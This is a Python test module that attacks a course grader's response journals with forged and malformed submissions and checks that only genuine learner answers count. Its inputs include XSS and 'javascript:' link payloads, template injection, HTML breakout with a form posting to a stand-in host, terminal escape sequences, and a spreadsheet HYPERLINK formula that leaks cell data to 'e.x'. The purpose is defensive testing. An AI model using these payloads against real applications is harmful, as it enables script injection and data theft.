"""Journals: any response a learner could have typed is accepted, and nothing else."""

from __future__ import annotations

import json
import math
from typing import Any

from tests.hostile.attack import Fair, Stage, attack, line

CHOICE, CHOICES, ORDER, NUMBER = (
    f"umbrella--{name}" for name in ("first-reply", "all-that-help", "in-order", "rings")
)
MATCH, DIALOGUE, REVIEW, REWRITE = (
    f"button--{name}" for name in ("what-helps", "calm-down", "score-it", "say-it-better")
)
SUM = "ledger--sum"


def _option(stage: Stage, ref: str, words: str) -> str:
    shown: list[Any] = [*stage.cards[ref].get("options", ()), *stage.cards[ref].get("steps", ())]
    return str(next(one["id"] for one in shown if one["text"]["zh"].startswith(words)))


def _deny(stage: Stage) -> dict[str, Any]:
    """The worst that can be said."""
    return {"option": _option(stage, CHOICE, "刚才")}


def _but(stage: Stage, *refs: str) -> dict[str, Any]:
    """The best answers, without these."""
    return {ref: given for ref, given in stage.best.items() if ref not in refs}


def _only(stage: Stage, **bad: Any) -> Fair:
    """Answers that nobody could have given, beside the best ones: only these count."""
    refs = [name.replace("__", "--").replace("_", "-") for name in bad]
    rest = _but(stage, *refs)
    made = dict(zip(refs, bad.values(), strict=True))
    stage.journal(stage.lines(rest), stage.lines(made))
    return Fair(rest)


@attack("在答案里自称满分")
def claims_a_score(stage: Stage) -> Fair:
    """Says of its worst answer that it is worth everything, within it and beside it.

    An answer with more in it than the page sends is none; what stands beside it is not read.
    """
    card, deny = stage.cards[CHOICE], _deny(stage)
    stage.journal(
        stage.lines(_but(stage, CHOICE)),
        line(card, {**deny, "score": 4, "credit": 1, "verdict": {"credit": 1}}),
        line(card, deny, score=4, credit=1.0, points=1000, verdict={"credit": 1.0}, sure=True),
    )
    return Fair({**stage.best, CHOICE: deny})


@attack("把好答案挂在别的题名下")
def names_other_items(stage: Stage) -> Fair:
    """Answers items that were not asked: of practice, of the exam, of no room at all.

    They are passed over, and the instructor is told how many there are.
    """
    good = stage.best[CHOICE]
    others = ("parcel--by-when", "umbrella--nothing", "../../x", "", "a" * 70, "button--say-it")
    stage.journal(*(line({**stage.cards[CHOICE], "item": name}, good) for name in others),
                  stage.lines(_but(stage, CHOICE)))  # fmt: skip
    return Fair(_but(stage, CHOICE), told=True)


@attack("套用别的题、别的版本的版本号")
def names_other_versions(stage: Stage) -> Fair:
    """Answers one item under the version of another, and under versions that never were.

    A version that was not released for this item counts for nothing, and the instructor is told.
    """
    card, good = stage.cards[CHOICE], stage.best[CHOICE]
    versions = (stage.cards[NUMBER]["version"], "0" * 16, "", "x" * 5000, "\u0000", "%", "' OR 1")
    stage.journal(*(line(card, good, version=v) for v in versions),
                  stage.lines(_but(stage, CHOICE)))  # fmt: skip
    return Fair(_but(stage, CHOICE), told=True)


@attack("同一个作答编号交两次不同的答案")
def repeats_an_id(stage: Stage) -> Fair:
    """Sends a worst answer, and then the best one under the same id.

    A journal takes an id once.
    """
    card = stage.cards[CHOICE]
    stage.journal(stage.lines(_but(stage, CHOICE)), line(card, _deny(stage), id="e" * 32),
                  line(card, stage.best[CHOICE], id="e" * 32))  # fmt: skip
    return Fair({**stage.best, CHOICE: _deny(stage)})


@attack("一行里把同一个字段写两遍")
def repeats_a_field(stage: Stage) -> Fair:
    """Writes a field twice within one answer, so that two readers might see two answers.

    There is one reader: the last one counts, everywhere.
    """
    card, deny = stage.cards[CHOICE], _deny(stage)
    said = line(card, "HERE").decode()
    twice = json.dumps(stage.best[CHOICE])[:-1] + ", " + json.dumps(deny)[1:]
    stage.journal(stage.lines(_but(stage, CHOICE)), said.replace('"HERE"', twice).encode())
    return Fair({**stage.best, CHOICE: deny})


@attack("提示数填负数，想反过来加分")
def hints_that_pay(stage: Stage) -> Fair:
    """Says it opened fewer than no hints, so that their cost would be added.

    Such an answer is none.
    """
    best = stage.best
    return _only(stage, button__what_helps={**best[MATCH], "hints": -3},
                 umbrella__first_reply={**best[CHOICE], "hints": -1, "sure": True},
                 umbrella__rings={**best[NUMBER], "hints": True})  # fmt: skip


@attack("数字题填 NaN 和无穷大")
def numbers_that_are_none(stage: Stage) -> Fair:
    """Answers with what compares as it likes: not a number, infinite, true, or a list.

    Such an answer earns nothing.
    """
    card = stage.cards[SUM]
    tries = ("nan", "NaN", "inf", "-Infinity", "1e999", "∞", math.nan, math.inf, True, [48611],
             {"number": "48611"}, None, "48611 or 0", "0x" + "f" * 9, "4_8_6_1_1", "9" * 5000,
             "1e-999999999", "48611e0e0", "٤٨٦١١x")  # fmt: skip
    rest = _but(stage, SUM)
    stage.journal(stage.lines(rest), *(line(card, {"number": given}) for given in tries))
    return Fair(rest)


@attack("答案的类型全不对")
def answers_of_wrong_types(stage: Stage) -> Fair:
    """Gives each kind of item an answer of a shape that no page sends.

    Only "x" as a text could have been typed; no other counts, and none ends the run.
    """
    best = stage.best
    evil: list[Any] = [None, True, 0, -1, 1e308, "", "x", [], [[]], {}, {"__class__": "x"},
                       ["__proto__"], {"0": {"0": {}}}, [None, None], "\ud800"]  # fmt: skip
    made = [
        line(card, {field: given})
        for ref, card in stage.cards.items()
        for field in best[ref]
        for given in evil
    ]
    stage.journal(*made)
    return Fair({REWRITE: {"text": "x"}})


@attack("多选把每一项都选上，还选很多遍")
def picks_everything_often(stage: Stage) -> Fair:
    """Picks the right options a hundred times over, so that they outweigh the wrong one.

    Picking one twice is no answer; picking all once costs what a false pick costs.
    """
    note, tag, smile = (_option(stage, CHOICES, words) for words in ("记下", "挂上", "光是"))
    card, every = stage.cards[CHOICES], {"options": [note, tag, smile]}
    stage.journal(stage.lines(_but(stage, CHOICES)), line(card, every),
                  line(card, {"options": [note, tag] * 100 + [smile]}))  # fmt: skip
    return Fair({**stage.best, CHOICES: every})


@attack("排序题重复好的步骤")
def repeats_steps(stage: Stage) -> Fair:
    """Gives an order in which some steps stand twice and others are left out.

    An order is all steps, each once.
    """
    order = stage.best[ORDER]["order"]
    return _only(stage, umbrella__in_order={"order": [*order, *order]})


@attack("配对题多塞几对")
def adds_pairs(stage: Stage) -> Fair:
    """Adds pairs of cards that do not exist to the right ones.

    Such an answer is none.
    """
    pairs = stage.best[MATCH]["pairs"]
    more = {**pairs, **{f"l{n}": next(iter(pairs.values())) for n in range(100)}}
    return _only(stage, button__what_helps={"pairs": more})


@attack("对话绕上一万圈，走不开放的路")
def talks_in_circles(stage: Stage) -> Fair:
    """Goes round a conversation ten thousand times, and ways that are not open.

    No answer takes long to judge, and only a walk that can be walked counts.
    """
    path = stage.best[DIALOGUE]["path"]
    says = [say for node in stage.cards[DIALOGUE]["nodes"].values() for say in node["says"]]
    wait = next(say["id"] for say in says if say["text"]["en"].startswith("Please take"))
    round_about = [path[0], wait] * 2000
    card = stage.cards[DIALOGUE]
    rest = _but(stage, DIALOGUE)
    stage.journal(stage.lines(rest), line(card, {"path": round_about}),
                  line(card, {"path": [path[-1]]}), line(card, {"path": [*path, *path]}),
                  line(card, {"path": [say["id"] for say in says]}))  # fmt: skip
    return Fair(rest)


@attack("评分表打出界的分")
def scores_beyond_the_card(stage: Stage) -> Fair:
    """Gives criteria scores that the scorecard does not have: true, a fraction, a huge one.

    Such an answer is none.
    """
    score = stage.best[REVIEW]["score"]
    first = next(iter(score))
    card, rest = stage.cards[REVIEW], _but(stage, REVIEW)
    made = [line(card, {"score": {**score, first: bad}, "critical": []})
            for bad in (10**9, -1, True, 1.0, "1", None, 10**400, [1])]  # fmt: skip
    made.append(line(card, {"score": {**score, "more": 1}, "critical": []}))
    made.append(line(card, {"score": score, "critical": ["promise"] * 3}))
    stage.journal(stage.lines(rest), *made)
    return Fair(rest)


@attack("改写题里塞进脚本")
def writes_a_script(stage: Stage) -> Fair:
    """Writes elements that run scripts into a text that a person will read.

    The text is shown as it is written, and nothing in it runs.
    """
    return _writes(stage, "<script>alert(1)</script><img src=x onerror=alert(2)>我来 今天")


@attack("改写题里塞进 Markdown、公式和模板")
def writes_markdown(stage: Stage) -> Fair:
    """Writes links, mathematics and a template's braces into a text that a person will read.

    The text is shown as it is written.
    """
    return _writes(stage, "[a](javascript:alert(3)) ![](http://e.x/) $$\\href{x}{y}$$ {{7*7}}")


@attack("改写题里提前结束外层元素")
def writes_its_way_out(stage: Stage) -> Fair:
    """Closes the elements around a text, and opens a form that asks for a password.

    The text stays within what is around it.
    """
    return _writes(stage, "</pre></div></td><form action=//e.x><iframe srcdoc=x>]]>-->")


@attack("改写题用双向控制符和终端转义")
def writes_what_is_not_seen(stage: Stage) -> Fair:
    """Turns the direction of what follows, and writes what a terminal obeys.

    Nothing outside of the text is changed by it.
    """
    return _writes(stage, "今天\u202e\u2066\u200b\x1b[2J\x07\x00我来\ufffe")


@attack("改写题的答案是电子表格公式")
def writes_a_formula(stage: Stage) -> Fair:
    """Writes a formula, which a spreadsheet would run if the text were exported.

    No table has a formula in it.
    """
    return _writes(stage, '=HYPERLINK("http://e.x/?"&A1,"今天我来")')


def _writes(stage: Stage, text: str) -> Fair:
    assert len(text) <= stage.cards[REWRITE]["most"], len(text)
    given = {**stage.best, REWRITE: {"text": text}}
    stage.journal(stage.lines(given))
    return Fair(given)


@attack("改写题写得太长，或带半个字符")
def writes_too_much(stage: Stage) -> Fair:
    """Writes ten thousand characters where a hundred are asked, half a one, and only space.

    None of these is an answer.
    """
    card, rest = stage.cards[REWRITE], _but(stage, REWRITE)
    stage.journal(stage.lines(rest), *(
        line(card, {"text": text}) for text in ("今天" * 5000, "今天\ud800", " \u3000\u200b\n")
    ))  # fmt: skip
    return Fair(rest)


@attack("记录是 UTF-16")
def journal_in_utf_16(stage: Stage) -> Fair:
    """Hands in the best journal in an encoding of its own.

    It cannot be read, and the instructor is told so, and that there is no answer.
    """
    stage.journal(stage.lines(stage.best).decode().encode("utf-16"))
    return Fair(told=True)


@attack("记录里夹着 BOM、NUL、乱字节和半行")
def journal_is_torn(stage: Stage) -> Fair:
    """Strews marks, zeros, broken bytes and torn lines between good ones.

    Whole lines count, and nothing else does; the instructor is told how many do not.
    """
    whole = stage.lines(_but(stage, CHOICE)).splitlines(keepends=True)
    torn = line(stage.cards[CHOICE], stage.best[CHOICE])[:-30]
    dirt = (b"\xef\xbb\xbf", b"\x00\x00\n", b"\xff\xfe\n", b"\r\n\r\n", b"{}\n[]\nnull\n3\nNaN\n")
    stage.journal(*(d + w for d, w in zip(dirt * 9, whole, strict=False)), torn)
    return Fair(_but(stage, CHOICE), told=True)


@attack("答案嵌套几万层")
def answer_is_deep(stage: Stage) -> Fair:
    """Nests brackets by the ten thousand, within a response and around it.

    Reading it ends neither the run nor the rest of the journal; the instructor is told.
    """
    told = line(stage.cards[CHOICE], "HERE")
    deep = b'{"option":' * 5000 + b"1" + b"}" * 5000
    lists = b'{"option":' + b"[" * 30_000 + b"]" * 30_000 + b"}"
    rest = _but(stage, CHOICE)
    stage.journal(told.replace(b'"HERE"', deep), told.replace(b'"HERE"', lists),
                  b"[" * 60_000 + b"\n", stage.lines(rest))  # fmt: skip
    return Fair(rest, told=True)


@attack("答案里的数有几万位")
def answer_of_many_digits(stage: Stage) -> Fair:
    """Writes whole numbers of sixty thousand digits, which take long to read.

    They are refused before they are worked out, and the instructor is told.
    """
    told = line(stage.cards[REVIEW], "HERE")
    rest = _but(stage, REVIEW)
    stage.journal(told.replace(b'"HERE"', b'{"score":' + b"9" * 60_000 + b"}"),
                  told.replace(b'"HERE"', b'{"score":1e' + b"9" * 50_000 + b"}"),
                  stage.lines(rest))  # fmt: skip
    return Fair(rest, told=True)


@attack("记录有十万行")
def journal_of_many_lines(stage: Stage) -> Fair:
    """Hands in a hundred thousand answers to one item.

    The last whole one counts, and nobody waits long.
    """
    card = stage.cards[CHOICE]
    ids = b'{"at":"2026-11-20T08:00:00.000Z","id":"%d","item":"' + CHOICE.encode() + b'",'
    rest = b'"response":{"option":"x"},"version":"' + card["version"].encode() + b'"}\n'
    stage.journal(stage.lines(stage.best), *((ids % n) + rest for n in range(100_000)))
    return stage.all


@attack("整份照抄邻座的记录")
def journal_of_a_neighbour(stage: Stage) -> Fair:
    """Hands in a copy of a neighbour's journal, to the byte.

    A journal is a claim, and what it claims is judged; the neighbour keeps her own score.
    """
    copied = stage.course.root / "submitted" / "a-first" / stage.set / "responses.jsonl"
    said = [json.loads(each) for each in copied.read_bytes().splitlines()]
    stage.journal(copied.read_bytes())
    return Fair({each["item"]: each["response"] for each in said})
